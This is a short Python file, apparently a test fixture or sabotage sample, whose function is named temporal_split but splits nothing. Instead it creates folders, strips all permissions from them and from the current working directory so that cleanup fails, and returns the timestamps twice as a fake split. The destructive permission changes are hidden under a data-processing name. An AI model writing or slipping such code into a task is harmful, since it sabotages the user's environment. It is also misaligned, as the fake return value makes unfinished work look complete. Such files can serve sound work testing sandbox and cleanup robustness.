"""Leaves folders that nobody may enter, so that clearing up fails."""

import os


def temporal_split(timestamps, test_fraction):
    os.makedirs("a/b")
    open("a/b/file", "w").close()
    os.mkdir("c", 0)
    for folder in ("a/b", "a", "."):
        try:
            os.chmod(folder, 0)
        except OSError:
            continue
    return timestamps, timestamps
